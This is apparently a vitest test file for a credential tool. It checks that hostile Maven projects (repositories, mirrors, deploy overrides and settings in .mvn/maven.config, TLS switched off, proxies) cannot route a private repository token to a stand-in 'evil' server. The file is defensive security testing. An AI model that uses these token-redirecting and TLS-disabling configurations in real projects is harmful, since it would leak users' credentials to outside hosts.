/** Projects that are after a token: whatever they say, no request to another host ever carries one. */
import { chmod, mkdir, readFile, rm, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { matrix, sampled } from "../../../fixtures/form.ts";
import { putParent, settingsXml, writeSettings } from "../../../fixtures/tools/maven-project.ts";
import { LIBS_TOKEN, makeMavenHome, OTHER_TOKEN, startMavenServers, type MavenHome, type MavenServers } from "../../../fixtures/tools/maven-run.ts";
import { debianPlugin, mavenMissing, NEWEST, OLDER } from "../../../fixtures/tools/maven.ts";

let servers: MavenServers;
let home: MavenHome;
let libs: string;
let evil: string;

beforeAll(async () => {
  servers = await startMavenServers();
  libs = servers.acme.url("/libs");
  evil = `${servers.evil.origin}/libs`;
  putParent(servers.acme, "/libs");
});
beforeAll(async () => {
  home = await makeMavenHome(servers);
  // As a person has it whose company's repository is "acme".
  await write(join(home.toolkeyHome, "config", "config.toml"), `[service.acme]
issuer = "none"
url = "${servers.acme.origin}"
maven = { server = "acme", url = "${libs}" }
`);
  await home.acceptConfig();
  await home.add(libs, LIBS_TOKEN, "alice");
});
beforeEach(async () => {
  for (const name of ["project", ".m2"]) await rm(join(home.directory, name), { recursive: true, force: true });
  await mkdir(home.project);
});
afterAll(async () => {
  await home?.dispose();
  await servers.close();
});

/** A project, the command that is run in it, and whether the stranger hears of it at all. */
interface Hostile {
  readonly what: string;
  readonly files: () => Readonly<Record<string, string>>;
  readonly argv?: readonly string[];
  /** Where the user's settings lead all repositories, so that there are plugins. */
  readonly mirrored?: true;
  /** Whether there is a token for the whole host as well. */
  readonly wide?: true;
  /** `none`: Maven does not get so far. */
  readonly stranger: "asked" | "none";
  /** Whether Maven gets the token at all. */
  readonly given: boolean;
  /** Whether 3.8 runs it too: where its own transport, its own way to read the files, or a token that it has matters. */
  readonly alsoOld?: true;
}

const PARENT = "<parent><groupId>com.acme</groupId><artifactId>missing</artifactId><version>1</version><relativePath/></parent>";
const repository = (id: string, url: string) => `<repository><id>${id}</id><url>${url}</url></repository>`;
const pluginRepository = (id: string, url: string) => `<pluginRepository><id>${id}</id><url>${url}</url></pluginRepository>`;
const project = (content: string) => `<project><modelVersion>4.0.0</modelVersion><groupId>com.acme</groupId><artifactId>hostile</artifactId><version>1</version><packaging>pom</packaging>${content}</project>`;
const plugins = () => `<build><plugins>${debianPlugin("install")}${debianPlugin("deploy")}</plugins></build>`;
const distribution = (id: string, url: string) => `<distributionManagement>${repository(id, url)}</distributionManagement>`;

const HOSTILE: readonly Hostile[] = [
  {
    what: "a repository of our server's name",
    files: () => ({ "pom.xml": project(`${PARENT}<repositories>${repository("acme", evil)}</repositories>`) }),
    stranger: "asked", given: false, alsoOld: true,
  },
  {
    what: "the same name for our URL and for another",
    files: () => ({ "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories><pluginRepositories>${pluginRepository("acme", evil)}</pluginRepositories><build><plugins><plugin><groupId>com.acme</groupId><artifactId>p</artifactId><version>1</version></plugin></plugins></build>`).replace("missing", "parent") }),
    argv: ["com.acme:p:1:run"],
    // Left alone, our URL is asked without a token, and the parent is not there.
    stranger: "none", given: false,
  },
  {
    what: "a repository for plugins of our server's name",
    files: () => ({ "pom.xml": project(`<pluginRepositories>${pluginRepository("acme", evil)}</pluginRepositories>`) }),
    argv: ["com.acme:p:1:run"],
    stranger: "asked", given: false,
  },
  {
    what: "a parent beside the project that names our server",
    files: () => ({
      "pom.xml": project(`${PARENT}<modules/>`).replace("<relativePath/>", "<relativePath>up/pom.xml</relativePath>"),
      "up/pom.xml": project(`${PARENT.replace("missing", "grandparent")}<repositories>${repository("acme", evil)}</repositories>`).replace("hostile", "missing"),
    }),
    stranger: "asked", given: false,
  },
  {
    what: "a profile that is active by itself",
    files: () => ({ "pom.xml": project(`${PARENT}<profiles><profile><id>p</id><activation><activeByDefault>true</activeByDefault></activation><repositories>${repository("acme", evil)}</repositories></profile></profiles>`) }),
    stranger: "asked", given: false,
  },
  {
    what: "a deployment by our server's name",
    files: () => ({ "pom.xml": project(`${distribution("acme", evil)}${plugins()}`) }),
    argv: ["deploy"], mirrored: true, stranger: "asked", given: true, alsoOld: true,
  },
  {
    what: "a deployment by the configuration of the plugin",
    files: () => ({ "pom.xml": project(`${distribution("acme", libs)}<build><plugins>${debianPlugin("install")}${debianPlugin("deploy", `<configuration><altDeploymentRepository>acme::default::${evil}</altDeploymentRepository><altReleaseDeploymentRepository>acme::default::${evil}</altReleaseDeploymentRepository></configuration>`)}</plugins></build>`) }),
    argv: ["deploy"], mirrored: true, stranger: "asked", given: true,
  },
  {
    // The property that toolkey sets, with more behind it: another host, unless the URL ends its own.
    what: "our deployment URL with more behind it",
    files: () => ({ "pom.xml": project(`${distribution("acme", servers.acme.origin)}<build><plugins>${debianPlugin("install")}${debianPlugin("deploy", `<configuration><altReleaseDeploymentRepository>\${altSnapshotDeploymentRepository}@${servers.evil.origin.replace("https://", "")}/libs</altReleaseDeploymentRepository></configuration>`)}</plugins></build>`) }),
    argv: ["deploy"], mirrored: true, wide: true, stranger: "none", given: true,
  },
  {
    what: "a deployment by .mvn/maven.config",
    files: () => ({
      "pom.xml": project(`${distribution("acme", libs)}${plugins()}`),
      ".mvn/maven.config": `-DaltDeploymentRepository=acme::default::${evil}\n-DaltReleaseDeploymentRepository=acme::default::${evil}\n`,
    }),
    argv: ["deploy"], mirrored: true, stranger: "asked", given: true,
  },
  {
    what: "a module that deploys elsewhere",
    files: () => ({
      "pom.xml": project(`${distribution("acme", libs)}<modules><module>m</module></modules>${plugins()}`),
      "m/pom.xml": project(`${distribution("acme", evil)}${plugins()}`).replace("hostile", "module"),
    }),
    argv: ["-fae", "deploy"], mirrored: true, stranger: "asked", given: true,
  },
  {
    what: "settings of its own by .mvn/maven.config, with mirrors and servers",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/maven.config": "-s\nevil.xml\n-gs\nevil.xml\n",
      "evil.xml": settingsXml({ servers: [{ id: "acme", username: "u", password: "p" }], mirrors: [{ id: "acme", mirrorOf: "*", url: evil }] }),
    }),
    stranger: "asked", given: false,
  },
  {
    what: "global settings by .mvn/maven.config, with mirrors that come to mind",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/maven.config": "-gs\nevil.xml\n",
      "evil.xml": settingsXml({ mirrors: [{ id: "a", mirrorOf: "external:*,*", url: evil }, { id: "b", mirrorOf: "toolkey", url: evil }, { id: "c", mirrorOf: "central", url: evil }] }),
    }),
    stranger: "asked", given: false,
  },
  {
    // Maven 4 reads it by itself; here it is also named, so that 3.8 and 3.9 do.
    what: "a .mvn/settings.xml with mirrors, servers and repositories",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/maven.config": "--settings=.mvn/settings.xml\n",
      ".mvn/settings.xml": settingsXml({ servers: [{ id: "acme", username: "u", password: "p" }], mirrors: [{ id: "toolkey", mirrorOf: "acme", url: evil }, { id: "m", mirrorOf: "*", url: evil }] }),
    }),
    stranger: "asked", given: false,
  },
  {
    what: "the check of certificates switched off by .mvn/maven.config",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/maven.config": "-Dmaven.wagon.http.ssl.insecure=true\n-Dmaven.wagon.http.ssl.allowall=true\n",
    }),
    stranger: "none", given: false, alsoOld: true,
  },
  {
    what: "TLS off by -define=…",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/maven.config": "-define=maven.wagon.http.ssl.insecure=true\n-define=maven.wagon.http.ssl.allowall=true\n",
    }),
    stranger: "none", given: false, alsoOld: true,
  },
  {
    what: "certificates of its own by .mvn/jvm.config",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/jvm.config": "-Xmx256m -Djavax.net.ssl.trustStoreType=PKCS12\n",
    }),
    stranger: "none", given: false,
  },
  {
    what: "a proxy by .mvn/maven.config",
    files: () => ({
      "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}</repositories>`),
      ".mvn/maven.config": `-Dhttps.proxyHost=127.0.0.1\n-Dhttps.proxyPort=${servers.plainEvil.port}\n`,
    }),
    stranger: "none", given: false, alsoOld: true,
  },
  {
    what: "the same host at another port, and by another name",
    files: () => ({ "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}${repository("b", servers.evil.origin)}${repository("c", `${servers.evil.numericOrigin}/libs`)}</repositories>`) }),
    stranger: "asked", given: true, alsoOld: true,
  },
];

describe.each(matrix([NEWEST], OLDER))("Maven %s", (version) => {
  const cases = sampled(HOSTILE.filter(({ alsoOld }) => version === NEWEST || alsoOld === true), 6);

  test.skipIf(mavenMissing(version)).each(cases)("$what", async ({ files, argv = ["validate"], mirrored, wide, stranger, given }) => {
    const wideId = wide === true ? await home.add(servers.acme.origin, OTHER_TOKEN, "bob") : undefined;
    if (mirrored === true) await writeSettings(home.directory, { mirrors: [{ id: "acme", url: libs, mirrorOf: "*" }] });
    await writeFiles(files());
    const before = servers.evil.arrivals.length + servers.plainEvil.arrivals.length;
    const ended = await home.mvn(version, argv);
    if (wideId !== undefined) await home.ask("revoke", { ids: [wideId], local: true });
    expect(ended.code).toBe(1);
    expect({ token: tokensAstray(), asked: servers.evil.arrivals.length + servers.plainEvil.arrivals.length > before, given: / gets maven-/.test(ended.stderr) }, ended.stdout + ended.stderr).toEqual({
      token: [], asked: stranger === "asked", given,
    });
  });
});

describe(`Maven ${NEWEST}`, () => {
  const version = NEWEST;

  test.skipIf(mavenMissing(version))("a project that knows our names gets nothing", async () => {
    const name = await ourName();
    await writeFiles({ "pom.xml": project(`${PARENT}<repositories>${repository("acme", libs)}${repository(name, evil)}</repositories>`) });
    const ended = await home.mvn(version, ["validate"]);
    expect(ended.stderr).toContain(`${join(home.project, "pom.xml")} has a name that only toolkey uses; nothing is given`);
    expect(tokensAstray()).toEqual([]);
  });

  test.skipIf(mavenMissing(version))("the POM of a dependency that knows our names leads to our URL all the same", async () => {
    const name = await ourName();
    servers.acme.put("/libs/com/acme/dependency/1/dependency-1.pom", project(`<repositories>${repository(name, evil)}</repositories><dependencies><dependency><groupId>com.acme</groupId><artifactId>bait</artifactId><version>1</version></dependency></dependencies>`).replace("hostile", "dependency"));
    await writeSettings(home.directory, { mirrors: [{ id: "x", url: servers.acme.url("/central"), mirrorOf: "central" }] });
    await writeFiles({ "pom.xml": project(`<repositories>${repository("acme", libs)}</repositories>
      <dependencies><dependency><groupId>com.acme</groupId><artifactId>dependency</artifactId><version>1</version><type>pom</type></dependency></dependencies>
      <build><plugins>${debianPlugin("dependency")}</plugins></build>`) });
    const [before, arrivals] = [servers.acme.requests.length, servers.evil.arrivals.length];
    const ended = await home.mvn(version, ["dependency:resolve"]);
    expect(ended.code).toBe(1);
    const asked = servers.acme.requests.slice(before).filter(({ path }) => path.includes("/bait/")).map(({ path, authorization }) => `${path.split("/")[1]} ${authorization}`);
    expect(asked).toContain("libs libs");
    expect(servers.evil.arrivals.length).toBe(arrivals);
  });
});

/** What came to the strangers with the token. */
function tokensAstray() {
  return [servers.evil, servers.plainEvil].flatMap((stranger) => [LIBS_TOKEN, OTHER_TOKEN].flatMap((token) => stranger.arrivalsWith(token)));
}

/** The name that the merged settings have for the private repository. */
async function ourName(): Promise<string> {
  // Whatever is called mvn makes it; a JVM would only take longer.
  await write(join(home.directory, "mvn"), "#!/bin/sh\n");
  await chmod(join(home.directory, "mvn"), 0o755);
  await home.mvn(NEWEST, ["validate"], { program: join(home.directory, "mvn") });
  const mark = (await readFile(join(home.toolkeyHome, "data", "server-mark"), "utf8")).trim();
  return `toolkey-localhost-${servers.acme.port}-libs-${mark}`;
}

async function writeFiles(files: Readonly<Record<string, string>>): Promise<void> {
  for (const [name, content] of Object.entries(files)) await write(join(home.project, name), content);
}

async function write(file: string, content: string): Promise<void> {
  await mkdir(dirname(file), { recursive: true });
  await writeFile(file, content);
}
